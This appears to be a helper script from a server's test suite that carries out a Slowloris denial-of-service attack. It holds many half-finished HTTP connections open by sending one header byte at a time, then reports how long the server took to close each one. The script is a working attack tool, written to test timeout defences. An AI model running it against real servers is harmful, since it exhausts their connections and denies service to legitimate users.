"""Slowloris attacker for test_slowloris.py, in its own process so it never slows the client.

    python slowloris_attack.py URL CONNECTIONS TICK LIMIT

Opens CONNECTIONS connections, sends a request line and then one header byte per connection
every TICK seconds until the server closes each one (or LIMIT seconds pass). Prints "ready"
once all are open, then one JSON line: seconds from open to close of each connection, and the
answers received.
"""

from __future__ import annotations

import json
import socket
import sys
import time
from urllib.parse import urlsplit


def main() -> None:
    url, count, tick, limit = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
    parts = urlsplit(url)
    opened: dict[socket.socket, float] = {}
    for _ in range(count):
        sock = socket.create_connection((parts.hostname, parts.port), timeout=5)
        sock.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n")
        sock.setblocking(False)
        opened[sock] = time.monotonic()
    print("ready", flush=True)
    closed_after: list[float] = []
    answers: list[str] = []
    deadline = time.monotonic() + limit
    while opened and time.monotonic() < deadline:
        for sock in list(opened):
            ended = False
            try:
                answer = sock.recv(4096)
                ended = True
                if answer:
                    answers.append(answer[:40].decode("latin-1"))
            except BlockingIOError:
                try:
                    sock.send(b"X")
                except OSError:
                    ended = True
            except OSError:
                ended = True
            if ended:
                closed_after.append(time.monotonic() - opened.pop(sock))
                sock.close()
        time.sleep(tick)
    for sock in opened:
        sock.close()
    print(json.dumps({"closed_after": closed_after, "answers": answers, "open": len(opened)}))


if __name__ == "__main__":
    main()
